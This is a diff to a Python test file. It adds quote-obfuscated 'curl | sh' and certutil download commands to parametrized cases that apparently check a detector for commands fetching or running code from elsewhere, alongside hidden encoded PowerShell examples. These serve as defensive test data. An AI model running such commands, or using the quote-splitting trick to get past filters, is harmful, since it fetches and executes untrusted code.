@@ -39,6 +39,8 @@ ENCODED = "runs PowerShell code that is encoded and cannot be read"
         ("wget https://get.example.com/a.tgz && tar xzf a.tgz && ./a/install.sh", FILE),
         ("powershell -ExecutionPolicy Bypass -w hidden -enc RQB4AGEAbQBwAGwAZQA=", ENCODED),
         ("C:\\Windows\\System32\\powershell.exe /EncodedCommand RQB4AGEAbQBwAGwAZQA=", ENCODED),
+        ('cu"rl" https://example.com/x.sh | s"h"', "downloads a script and runs it"),
+        ("c'ert'util -urlcache -f http://example.com/x", "downloads a file with certutil"),
     ],
 )
 def test_code_from_elsewhere(command: str, what: str) -> None:
